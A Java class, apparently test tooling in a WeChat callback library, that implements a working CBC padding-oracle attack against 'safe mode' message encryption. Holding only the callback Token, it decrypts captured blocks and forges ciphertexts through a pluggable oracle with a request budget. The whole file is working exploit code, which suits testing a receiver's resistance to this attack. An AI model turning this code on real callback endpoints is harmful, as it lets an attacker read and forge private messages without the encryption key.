package io.github.wechatqr.events;

import java.util.ArrayList;
import java.util.Arrays;
import java.util.Comparator;
import java.util.LinkedHashMap;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.function.Function;

/**
 * The classic CBC padding-oracle attack (Vaudenay, 2002) as a holder of the callback Token but not of the
 * EncodingAESKey runs it against safe mode: every ciphertext it tries is signed with the Token, so each one
 * passes the signature check and reaches decryption. It never assumes what the receiver answers: for each
 * byte it tries all 256 values and takes the answer most of them get as "bad padding"; any value answered
 * otherwise is a padding that checked out. If all 256 answers are the same, there is nothing to learn and
 * the attack gives up. Bounded: it stops when its request budget is spent.
 *
 * <p>Safe mode pads to 32 bytes, but AES blocks are 16: a probe is {@code R || X} (32 bytes), so the
 * receiver checks the padding of {@code D(X) xor R}, the first block being garbage it ignores.
 */
final class CbcPaddingOracleAttack {
  private static final int BLOCK = 16;
  private final Function<byte[], CallbackResponse> oracle;
  private final int budget;
  private final Set<CallbackResponse> answers = new LinkedHashSet<>();
  private int requests;

  /**
   * @param oracle posts a ciphertext (signed with the Token) and returns the receiver's answer
   * @param budget the most requests the attack may make
   */
  CbcPaddingOracleAttack(Function<byte[], CallbackResponse> oracle, int budget) {
    this.oracle = oracle;
    this.budget = budget;
  }

  /** @return how many requests were made */
  int requests() {
    return requests;
  }

  /** @return every distinct answer seen */
  Set<CallbackResponse> answers() {
    return answers;
  }

  /**
   * @param cipherText a captured ciphertext
   * @param index which 16-byte block to decrypt, at least 1 (block 0 is chained to the secret IV)
   * @return its plaintext, or empty if the answers gave nothing away
   */
  Optional<byte[]> decryptBlock(byte[] cipherText, int index) {
    byte[] block = Arrays.copyOfRange(cipherText, index * BLOCK, (index + 1) * BLOCK);
    byte[] previous = Arrays.copyOfRange(cipherText, (index - 1) * BLOCK, index * BLOCK);
    return intermediate(block).map(inter -> xor(inter, previous));
  }

  /**
   * CBC-R: builds, from the last block back, a ciphertext that decrypts to {@code plain} after one block of
   * garbage (the 16 random bytes every message starts with), learning each block's decryption by the oracle.
   *
   * @param plain what blocks 1..n must decrypt to; a multiple of 16 bytes, such that n + 1 is even
   * @param last the ciphertext's last block, any 16 bytes
   * @return the forged ciphertext, or empty if the answers gave nothing away
   */
  Optional<byte[]> forge(byte[] plain, byte[] last) {
    int blocks = plain.length / BLOCK;
    byte[][] forged = new byte[blocks + 1][];
    forged[blocks] = last.clone();
    for (int i = blocks; i >= 1; i--) {
      Optional<byte[]> inter = intermediate(forged[i]);
      if (inter.isEmpty()) {
        return Optional.empty();
      }
      forged[i - 1] = xor(inter.get(), Arrays.copyOfRange(plain, (i - 1) * BLOCK, i * BLOCK));
    }
    byte[] cipherText = new byte[(blocks + 1) * BLOCK];
    for (int i = 0; i <= blocks; i++) {
      System.arraycopy(forged[i], 0, cipherText, i * BLOCK, BLOCK);
    }
    return Optional.of(cipherText);
  }

  /** D(block), learned byte by byte from the last. */
  private Optional<byte[]> intermediate(byte[] block) {
    byte[] r = new byte[BLOCK];
    byte[] inter = new byte[BLOCK];
    for (int k = BLOCK - 1; k >= 0; k--) {
      int pad = BLOCK - k;
      for (int j = k + 1; j < BLOCK; j++) {
        r[j] = (byte) (inter[j] ^ pad);
      }
      Map<CallbackResponse, List<Integer>> byAnswer = new LinkedHashMap<>();
      Integer found = null;
      for (int guess = 0; guess < 256 && found == null; guess++) {
        r[k] = (byte) guess;
        Optional<CallbackResponse> answer = ask(r, block);
        if (answer.isEmpty()) {
          return Optional.empty();
        }
        byAnswer.computeIfAbsent(answer.get(), a -> new ArrayList<>()).add(guess);
        found = candidate(byAnswer, r, k, block, guess == 255);
        if (found != null && found < 0) {
          return Optional.empty();
        }
      }
      if (found == null) {
        return Optional.empty();
      }
      inter[k] = (byte) (found ^ pad);
    }
    return Optional.of(inter);
  }

  /**
   * Once one answer is clearly the usual one ("bad padding": at least 8 guesses, or all of them), a guess
   * answered otherwise is a padding that checked out. For the last byte, a padding of 2 or more may have
   * checked out by chance: the byte before is changed and the guess asked again.
   *
   * @return the guess found, null to go on guessing, -1 when the budget ran out
   */
  private Integer candidate(Map<CallbackResponse, List<Integer>> byAnswer, byte[] r, int k, byte[] block,
      boolean all) {
    Map.Entry<CallbackResponse, List<Integer>> usual = byAnswer.entrySet().stream()
        .max(Comparator.comparingInt(e -> e.getValue().size())).orElseThrow();
    if (byAnswer.size() < 2 || (usual.getValue().size() < 8 && !all)) {
      return null;
    }
    List<Integer> candidates = new ArrayList<>();
    byAnswer.forEach((answer, guesses) -> {
      if (!answer.equals(usual.getKey())) {
        candidates.addAll(guesses);
      }
    });
    byte kept = r[k];
    try {
      for (int guess : candidates) {
        r[k] = (byte) guess;
        if (k == BLOCK - 1) {
          r[k - 1] ^= 0x5a;
          Optional<CallbackResponse> again = ask(r, block);
          r[k - 1] ^= 0x5a;
          if (again.isEmpty()) {
            return -1;
          }
          if (again.get().equals(usual.getKey())) {
            continue;
          }
        }
        return guess;
      }
      // Every candidate was a chance padding: forget them and guess on.
      byAnswer.keySet().removeIf(answer -> !answer.equals(usual.getKey()));
      return null;
    } finally {
      r[k] = kept;
    }
  }

  private Optional<CallbackResponse> ask(byte[] r, byte[] block) {
    if (requests >= budget) {
      return Optional.empty();
    }
    requests++;
    byte[] probe = new byte[2 * BLOCK];
    System.arraycopy(r, 0, probe, 0, BLOCK);
    System.arraycopy(block, 0, probe, BLOCK, BLOCK);
    CallbackResponse answer = oracle.apply(probe);
    answers.add(answer);
    return Optional.of(answer);
  }

  static byte[] xor(byte[] a, byte[] b) {
    byte[] out = new byte[a.length];
    for (int i = 0; i < a.length; i++) {
      out[i] = (byte) (a[i] ^ b[i]);
    }
    return out;
  }
}
